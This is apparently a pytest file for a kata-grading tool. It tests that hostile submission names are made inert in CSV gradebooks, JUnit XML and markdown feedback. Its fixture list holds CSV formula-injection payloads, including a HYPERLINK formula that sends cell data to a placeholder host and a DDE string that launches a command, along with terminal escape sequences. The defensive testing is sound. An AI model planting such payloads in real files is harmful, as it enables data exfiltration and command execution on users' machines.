"""Whatever a submission names itself, every output stays inert and the batch goes on."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import pytest

from checker.grading.formats.feedback import feedback_markdown
from checker.grading.formats.gradebook import gradebook_csv
from checker.grading.formats.junit import junit_xml
from checker.grading.formats.write import read_batch, write_batch
from checker.grading.model import Batch, KataGrade, SubmissionGrade
from checker.inert import cell, markdown, plain

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"ok")',
    "+cmd|' /C calc'!A0",
    "Ada\x1b[2J\x1b]0;owned\x07 Lovelace",
    "[bold red]Ada[/] ![x](http://x.example)",
    "Ada\ud800Lovelace",
    "Ada\u202eecalevoL",
    "line\nbreak",
]


def test_a_csv_cell_never_starts_a_formula_and_holds_no_control_character():
    for name in HOSTILE:
        value = cell(name)
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
        assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in value), repr(value)
        value.encode("utf-8")  # no lone surrogate left


def test_markdown_and_terminal_text_show_the_name_literally():
    assert markdown("[x](http://evil)") == r"\[x\]\(http://evil\)"
    assert "\x1b" not in plain(HOSTILE[2]) and "\u202e" not in plain(HOSTILE[5])


def test_a_batch_of_hostile_names_writes_every_format(tmp_path):
    grades = [
        SubmissionGrade(
            name=name,
            location=name,
            kind="folder",
            learner=name,
            katas={"00-welcome": KataGrade("00-welcome", "graded", 50.0)},
        )
        for name in HOSTILE
    ]
    batch = Batch(["00-welcome"], grades)
    rows = list(csv.reader(io.StringIO(gradebook_csv(batch))))
    assert len(rows) == len(HOSTILE) + 1 and all(not r[0].startswith(("=", "+")) for r in rows[1:])
    for grade in grades:
        ET.fromstring(junit_xml(grade))  # well-formed XML 1.0, control characters gone
        assert "# Feedback for" in feedback_markdown(grade)
    write_batch(batch, tmp_path / "out")
    assert len(read_batch(tmp_path / "out").grades) == len(HOSTILE)


@pytest.mark.grades  # grades two submissions cold (one fails in the grader)
def test_a_grader_failure_on_one_submission_is_its_own_row(tmp_path, monkeypatch):
    import shutil

    from checker.grading.grader import GradeOptions, Grader
    from checker.grading.intake import discover
    from tests.conftest import CATALOG, ROOT

    for name in ("ada", "bob"):
        shutil.copytree(
            ROOT / "solutions" / "00-welcome" / "inkwell", tmp_path / name / "katas" / "00-welcome" / "inkwell"
        )
    sources = discover([str(tmp_path / "ada"), str(tmp_path / "bob")], CATALOG.ids)
    grader = Grader(CATALOG, GradeOptions(katas=("00-welcome",), warm=False))

    def explode(self, source):  # what a scan's RecursionError or a copy's OSError would do
        if source.name == "ada":
            raise RecursionError("maximum recursion depth exceeded while scanning")
        return real(self, source)

    real = Grader.grade_one
    monkeypatch.setattr(Grader, "grade_one", explode)
    with grader:
        grades = {g.name: g for g in grader.grade(sources)}
    assert grades["ada"].error and "RecursionError" in grades["ada"].error
    assert grades["ada"].katas["00-welcome"].status == "error" and grades["bob"].total == 100
    assert "error" in gradebook_csv(Batch(["00-welcome"], list(grades.values())))
